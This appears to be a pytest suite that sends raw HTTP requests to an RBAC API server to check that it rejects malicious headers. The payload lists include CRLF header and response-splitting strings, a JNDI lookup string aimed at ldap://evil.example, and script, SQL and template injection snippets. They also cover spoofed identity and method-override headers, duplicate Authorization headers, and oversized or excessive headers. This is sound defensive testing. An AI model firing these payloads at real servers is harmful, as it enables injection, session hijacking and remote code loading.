"""Headers that try to become something else, sent byte by byte to the running server: one request, one answer, nothing of theirs in it.

Werkzeug's test client would refuse to send most of these, and gunicorn refuses many of them, so only the wire shows what happens.
"""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle, product
from typing import Any

import pytest

from rbac_api.guard.tokens.credentials import COOKIES
from tests.attacks.targets import UNKNOWN
from tests.cast import PASSWORD
from tests.conftest import ENGINES, Stages
from tests.servers.places import server_folder
from tests.servers.service import SETTINGS, Service

pytestmark = pytest.mark.outside

CLAIMED = 400  # pairs of a header and a payload, each on one route of each kind by turns
PLAIN = (
    "X-Request-ID", "User-Agent", "Host", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "X-Forwarded-Port",
    "X-Forwarded-Prefix", "Forwarded", "X-Real-IP", "Authorization", "Cookie", "X-CSRF-TOKEN", "Idempotency-Key", "If-Match",
    "If-None-Match", "Accept", "Accept-Language", "Origin", "Referer", "Range", "TE", "X-Anything",
)  # fmt: skip
BROKEN = (  # what may stand in no field value (RFC 9110 section 5.5)
    b"a\rSet-Cookie: evil=1", b"a\nSet-Cookie: evil=1", b"a\n\nHTTP/1.1 200 OK\nevil: 1\n\nevil", b"a\r\n Set-Cookie: evil=1",
    b"a\r\n\tevil: 1", b"a\0evil", b"\0", b"a\r\revil: 1",
)  # fmt: skip
ODD = (  # what may
    "aĊSet-Cookie: evil=1".encode(), "ačĊevil: 1".encode(), b"a%0d%0aSet-Cookie:%20evil=1", b"\xff\xfe evil", b"\xc3\x28", "évil".encode(),
    b"<script>evil()</script>", b"${jndi:ldap://evil.example/a}", b"' OR 1=1 -- evil", b"", b"{{7*7}}evil", b"e" * 7000,
)  # fmt: skip
BY_PROXY = (  # names by which a careless service is told who somebody is, or what was meant
    "X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Authenticated-User", "X-User", "X-Role", "X-Roles", "X-Original-URL",
    "X-Rewrite-URL", "X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Original-Authorization", "Proxy-Authorization",
    "X-Authorization", "X-Access-Token", "X-Api-Key", "X-JWT-Assertion", "X-Amzn-Oidc-Data", "X-Client-Cert", "X-SSL-Client-S-DN",
    "X_Authorization", "HTTP_AUTHORIZATION", "Authorization_", "X-Internal", "X-Debug", "SCRIPT_NAME", "PATH_INFO", "REMOTE_USER",
    "REMOTE_ADDR", "wsgi.input", "X_Forwarded_For",
)  # fmt: skip
ROUTES = (
    ((b"GET", b"/v1/users"), (b"GET", b"/v1/me"), (b"GET", b"/v1/audit/events")),
    ((b"POST", b"/v1/roles"), (b"POST", b"/v1/users"), (b"POST", b"/v1/permissions")),
    ((b"PUT", b"/v1/roles/auditor/inherits/admin"), (b"PUT", f"/v1/users/{UNKNOWN}/roles/admin".encode()),
     (b"DELETE", f"/v1/sessions/{UNKNOWN}".encode())),
    ((b"POST", b"/oauth/introspect"), (b"POST", b"/oauth/revoke"), (b"POST", b"/v1/auth/logout")),
)  # fmt: skip
LOGOUT = (b"POST", b"/v1/auth/logout")
TAKEN_AWAY = re.compile(rf"({'|'.join(COOKIES.values())})=; Expires=[\w,: ]+; Max-Age=0; [\w;=/ ]+")
Route = tuple[bytes, bytes]


@dataclass(frozen=True)
class Heard:
    """One answer, as it came over the wire."""

    status: int
    headers: tuple[tuple[str, str], ...]
    body: bytes
    count: int

    @property
    def code(self) -> str | None:
        found = json.loads(self.body) if self.body.startswith(b"{") else {}
        return found.get("code") or found.get("error")

    @property
    def names(self) -> tuple[str, ...]:
        return tuple(sorted(name for name, _ in self.headers))


@pytest.fixture(scope="module", params=ENGINES)
def server(request: pytest.FixtureRequest, stages: Stages) -> Iterator[Service]:
    """The product itself; it must not have stumbled once when all is over."""
    folder = server_folder("attacks")
    url = (
        stages.empty_database(request.param, "attacks")
        if request.param != "sqlite"
        else f"sqlite:///{folder}/rbac.db"
    )
    found = Service(
        folder,
        {**SETTINGS, "RBAC_DATABASE_URL": url, "RBAC_WORKERS": "1", "RBAC_TOKEN_LIMIT": "100000 per minute"},
    )
    found.start()
    yield found
    output = found.output()
    found.end()
    assert "Traceback" not in output, output


@pytest.fixture(scope="module")
def token(server: Service) -> str:
    line = server.connect()
    body = json.dumps({"username": "admin", "password": PASSWORD})
    line.request("POST", "/v1/auth/login", body, {"Content-Type": "application/json"})
    found: str = json.loads(line.getresponse().read())["access_token"]
    line.close()
    return found


def ask(server: Service, route: Route, *lines: bytes) -> Heard:
    """Send one request of these header lines, and read until the server closes."""
    method, path = route
    own = [b"Host: x"] if not any(line.lower().startswith(b"host:") for line in lines) else []
    if method != b"GET":
        own.append(b"Content-Length: 0")
    head = b"\r\n".join([method + b" " + path + b" HTTP/1.1", *own, *lines, b"Connection: close", b"", b""])
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as line:
        line.sendall(head)
        heard = b"".join(iter(lambda: line.recv(65536), b""))
    return understood(heard)


def understood(heard: bytes) -> Heard:
    head, _, body = heard.partition(b"\r\n\r\n")
    status, *lines = head.split(b"\r\n")
    pairs = [line.decode("latin-1").partition(":") for line in lines]
    headers = tuple((name.lower(), value.strip()) for name, _, value in pairs)
    return Heard(int(status.split()[1]), headers, body, heard.count(b"HTTP/1.1 "))


def by_turns(cases: Any) -> Iterator[tuple[Any, Route]]:
    """Each case on one route of each kind."""
    kinds = [cycle(kind) for kind in ROUTES]
    yield from ((case, next(kind)) for case in cases for kind in kinds)


def told_apart(one: Heard, other: Heard) -> bool:
    return (one.status, one.code, one.names) != (other.status, other.code, other.names)


def injected(answer: Heard) -> bool:
    """Whether anything that was sent came back as a header, or as a second answer; a cookie only by being taken away may be."""
    return answer.count != 1 or any(
        (name == "set-cookie" and not TAKEN_AWAY.fullmatch(value)) or "evil" in f"{name}{value}"
        for name, value in answer.headers
    )


def test_the_corpus_is_as_large_as_it_is_said_to_be() -> None:
    assert len(set(product(PLAIN, BROKEN + ODD))) >= CLAIMED
    assert len(set(BY_PROXY)) >= 32


def test_what_may_stand_in_no_header_is_refused_alike_in_all(server: Service) -> None:
    answers = {
        (case, route): ask(server, route, case[0].encode() + b": " + case[1])
        for case, route in by_turns(product(PLAIN, BROKEN))
    }

    assert {key: answer for key, answer in answers.items() if injected(answer)} == {}
    assert {(answer.status, answer.code) for answer in answers.values()} == {(400, "request.malformed")}
    assert len({answer.names for answer in answers.values()}) == 1


def test_what_is_odd_in_a_header_opens_nothing_and_breaks_nothing(server: Service) -> None:
    answers = {
        (case, route): ask(server, route, case[0].encode() + b": " + case[1])
        for case, route in by_turns(product(PLAIN, ODD))
    }

    plain = {route: ask(server, route) for kind in ROUTES for route in kind}
    others = {key: answer for key, answer in answers.items() if told_apart(answer, plain[key[1]])}

    assert {key: answer for key, answer in answers.items() if injected(answer)} == {}
    leaving = {
        key: others.pop(key) for key in list(others) if (key[0][0], key[1]) == ("X-CSRF-TOKEN", LOGOUT)
    }
    assert {key[0][0] for key in others} <= {"Host", "Authorization"}
    assert {answer.status for answer in others.values()} <= {400, 401}
    assert {answer.status for answer in leaving.values()} == {204}  # a page without cookies has left already


def test_the_same_oddities_do_not_spoil_an_honest_request(server: Service, token: str) -> None:
    proof = b"Authorization: Bearer " + token.encode()
    meaningful = {"Authorization", "Host", "If-Match", "If-None-Match", "Accept", "Range", "Idempotency-Key"}

    answers = {
        (name, payload): ask(server, (b"GET", b"/v1/me"), proof, name.encode() + b": " + payload)
        for name, payload in product([name for name in PLAIN if name not in meaningful], ODD)
    }

    assert {key: answer for key, answer in answers.items() if injected(answer)} == {}
    assert {key: answer for key, answer in answers.items() if answer.status != 200} == {}


@pytest.mark.parametrize("value", [b"admin", b"GET", b"/v1/me"])
def test_no_header_but_one_says_who_somebody_is_or_what_is_meant(
    server: Service, token: str, value: bytes
) -> None:
    told = (value, b"Bearer " + token.encode(), token.encode())

    answers = [
        ask(server, route, name.encode() + b": " + what)
        for (name, what), route in by_turns(product(BY_PROXY, told))
    ]

    assert {(answer.status, answer.code) for answer in answers} <= {
        (401, "token.missing"), (401, "invalid_client"), (400, "invalid_request"), (400, "request.malformed"),
    }  # fmt: skip


def pairs(good: bytes) -> list[tuple[bytes, bytes]]:
    """Two Authorization headers, at least one of them good."""
    others = (
        b"Bearer nonsense", b"Basic YTpi", b"", b"Bearer", b"Bearer ", b"Digest x", b"bearer " + good, b"Bearer " + good, b"Negotiate x",
    )  # fmt: skip
    mine = b"Bearer " + good
    return [(mine, other) for other in others] + [(other, mine) for other in others]


def test_of_two_authorization_headers_none_counts(server: Service, token: str) -> None:
    answers = {
        (case, route): ask(server, route, b"Authorization: " + case[0], b"Authorization: " + case[1])
        for case, route in by_turns(pairs(token.encode()))
    }

    assert {key: answer.status for key, answer in answers.items() if answer.status not in (400, 401)} == {}


@pytest.mark.parametrize("size", [33_000, 100_000, 1_000_000])
def test_what_is_too_long_for_any_header_is_told_so(server: Service, size: int) -> None:
    answers = [
        ask(server, route, name.encode() + b": " + b"e" * size) for name, route in by_turns(PLAIN[:11])
    ]

    assert {(answer.status, answer.count) for answer in answers} <= {(431, 1), (400, 1)}


def test_a_thousand_headers_are_too_many(server: Service) -> None:
    many = [f"X-Number-{number}: 1".encode() for number in range(1000)]

    assert {ask(server, route, *many).status for kind in ROUTES for route in kind} <= {400, 431}


@pytest.mark.parametrize(
    "method", [b"TRACE", b"TRACK", b"DEBUG", b"PROPFIND", b"CONNECT", b"SEARCH", b"get", b"Post"]
)
def test_no_method_echoes_a_request_and_none_is_taken_for_another(
    server: Service, token: str, method: bytes
) -> None:
    proof = b"Authorization: Bearer " + token.encode()

    answers = [ask(server, (method, path), proof) for kind in ROUTES for _, path in kind]

    assert {answer.status for answer in answers} <= {400, 405, 501}
    assert not any(token.encode() in answer.body for answer in answers)


def test_the_honest_request_passes_on_the_same_wire(server: Service, token: str) -> None:
    proof = b"Authorization: Bearer " + token.encode()

    answers = [ask(server, route, proof) for route in ROUTES[0]]
    kept = ask(server, ROUTES[0][1], proof, b"X-Request-ID: decent-name")

    assert [answer.status for answer in answers] == [200, 200, 200]
    assert dict(kept.headers)["x-request-id"] == "decent-name"
